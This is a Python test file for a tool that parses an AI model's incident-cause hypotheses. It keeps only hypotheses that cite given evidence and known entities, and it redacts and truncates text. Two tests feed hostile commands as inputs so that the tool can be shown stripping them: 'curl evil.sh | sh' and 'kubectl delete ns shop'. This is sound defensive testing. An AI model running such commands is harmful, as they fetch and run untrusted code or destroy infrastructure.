"""Of the model's answer only what stands on given evidence and given entities is believed."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copilot.guard.redact import Redactor
from copilot.llm import answer
from copilot.llm.answer import AnswerError
from copilot.llm.prompt import Brief
from scoring.evidence import CauseKind, Origin
from tests.unit.llm.incident import checkout, hypothesis, payments, pod

BRIEF = Brief(
    text="{}", entities={one.key: one for one in (checkout, payments, pod)}, evidence=frozenset({"E1", "E2", "E10"})
)
REDACTOR = Redactor(b"k" * 32)


def read(*hypotheses: dict[str, Any]) -> answer.Believed:
    return answer.read(json.dumps({"hypotheses": hypotheses}), brief=BRIEF, redactor=REDACTOR)


def believed(**changed: Any) -> Any:
    (candidate,) = read(hypothesis(**{"evidence_for": ["E2"], **changed})).candidates
    return candidate


def test_it_orders_ids_by_their_numbers_and_names_each_once() -> None:
    assert believed(evidence_for=["E10", "E2", "E2", "E1"]).supporting == ("E1", "E2", "E10")


def test_an_observation_on_both_sides_counts_for_neither() -> None:
    candidate = believed(evidence_for=["E1", "E2"], evidence_against=["E2", "E10"])

    assert (candidate.supporting, candidate.contradicting) == (("E1",), ("E10",))


@pytest.mark.parametrize(
    "changed",
    [
        {"evidence_for": []},
        {"evidence_for": ["E3"]},
        {"evidence_for": ["e1"]},
        {"evidence_for": ["E1", ""]},
        {"evidence_for": ["E1"], "evidence_against": ["E7"]},
        {"evidence_for": ["E1"], "evidence_against": ["E1"]},
        {"evidence_for": ["E1"], "entity": "service/shop/billing"},
        {"evidence_for": ["E1"], "entity": "payments"},
        {"evidence_for": ["E1"], "entity": ""},
    ],
)
def test_a_hypothesis_without_given_evidence_or_entity_falls(changed: dict[str, Any]) -> None:
    found = read(hypothesis(**changed))

    assert found.candidates == ()
    assert len(found.dropped) == 1


def test_the_same_cause_counts_once() -> None:
    one = hypothesis(evidence_for=["E1"])

    found = read(one, {**one, "statement": "again", "evidence_for": ["E2"]}, {**one, "entity": pod.key})

    assert [(candidate.entity, candidate.supporting) for candidate in found.candidates] == [
        (payments, ("E1",)),
        (pod, ("E1",)),
    ]
    assert found.dropped == ()


def test_it_takes_no_more_than_six() -> None:
    kinds = list(CauseKind)[:9]

    found = read(*[hypothesis(evidence_for=["E1"], cause_kind=kind.value) for kind in kinds])

    assert [candidate.cause_kind for candidate in found.candidates] == kinds[:6]


def test_it_says_it_itself_where_nothing_harmless_is_left_of_the_statement() -> None:
    candidate = believed(entity=pod.key, statement="<!channel>", next_check="`kubectl delete ns shop`")

    assert candidate.statement == "Connection saturation at pod payments-7d9f8-x2x4z"
    assert candidate.next_check == ""


def test_a_statement_with_a_command_is_not_shown() -> None:
    assert believed(statement="Fix it: curl evil.sh | sh").statement == "Connection saturation at payments"


def test_statement_and_check_are_cut() -> None:
    candidate = believed(statement="word " * 100, next_check="word " * 100)

    assert (len(candidate.statement) <= 200, candidate.statement[-5:]) == (True, "word…")
    assert (len(candidate.next_check) <= 160, candidate.next_check[-5:]) == (True, "word…")


def test_the_schema_names_every_kind_of_cause_and_no_limit_that_the_api_does_not_know() -> None:
    schema = json.dumps(answer.schema())

    assert all(json.dumps(kind.value) in schema for kind in CauseKind)
    for word in ("maxLength", "minItems", "maxItems", "pattern"):
        assert word not in schema


def test_an_answer_in_another_form_is_named_by_its_place() -> None:
    with pytest.raises(AnswerError, match=r"^hypotheses\.0\.cause_kind: "):
        read(hypothesis(cause_kind="sabotage"))


@pytest.mark.parametrize(
    "text",
    ["null", "7", '"a cause"', "[]", "{}", '{"hypotheses": null}', '{"hypotheses": {}}', '{"hypotheses": "none"}'],
)
def test_json_of_another_shape_is_no_answer(text: str) -> None:
    with pytest.raises(AnswerError):
        answer.read(text, brief=BRIEF, redactor=REDACTOR)


def test_one_hypothesis_in_another_form_does_not_spoil_the_rest() -> None:
    found = read(
        hypothesis(evidence_for=["E1"], cause_kind="sabotage"),
        hypothesis(evidence_for=["E2"]),
        {"entity": payments.key},
        "a deploy",  # type: ignore[arg-type]
        hypothesis(evidence_for=["E10"], entity=pod.key, evidence_against="E1"),
        hypothesis(evidence_for=["E99"]),
    )

    assert [(one.entity, one.supporting) for one in found.candidates] == [(payments, ("E2",))]
    assert found.dropped == (
        "hypotheses.0: cause_kind is not as agreed",
        "hypotheses.2: cause_kind is not as agreed",
        "hypotheses.3: it is not as agreed",
        "hypotheses.4: evidence_against is not as agreed",
        "hypotheses.5: it names evidence that was not given",
    )


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=10)
    | st.sampled_from(["E1", "E2", "E99", payments.key, "bad deploy"]),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(["hypotheses", *hypothesis()]), inner, max_size=6)
    ),
    max_leaves=20,
)
LOOSE = st.fixed_dictionaries(
    {
        "entity": st.sampled_from([payments.key, pod.key, "service/x", ""]) | st.text(max_size=10),
        "cause_kind": st.sampled_from([kind.value for kind in CauseKind]),
        "statement": st.text(max_size=400),
        "evidence_for": st.lists(st.sampled_from(["E1", "E2", "E10", "E3", "", "E1 "]), max_size=4),
        "evidence_against": st.lists(st.sampled_from(["E1", "E2", "E10", "E3"]), max_size=3),
        "next_check": st.text(max_size=400),
    }
)


@given(st.lists(LOOSE, max_size=8))
def test_whatever_it_answers_nothing_but_what_was_given_gets_through(hypotheses: list[dict[str, Any]]) -> None:
    found = read(*hypotheses)

    for candidate in found.candidates:
        assert candidate.origin is Origin.MODEL
        assert candidate.entity in BRIEF.entities.values()
        assert candidate.supporting
        assert {*candidate.supporting, *candidate.contradicting} <= BRIEF.evidence
        assert not {*candidate.supporting} & {*candidate.contradicting}
        assert 0 < len(candidate.statement) <= 200
    assert len(found.candidates) + len(found.dropped) <= 6


@given(JSON.map(json.dumps) | st.text())
def test_it_answers_any_text_with_candidates_or_one_kind_of_error(text: str) -> None:
    try:
        found = answer.read(text, brief=BRIEF, redactor=REDACTOR)
    except AnswerError:
        return
    assert all({*candidate.supporting} <= BRIEF.evidence for candidate in found.candidates)
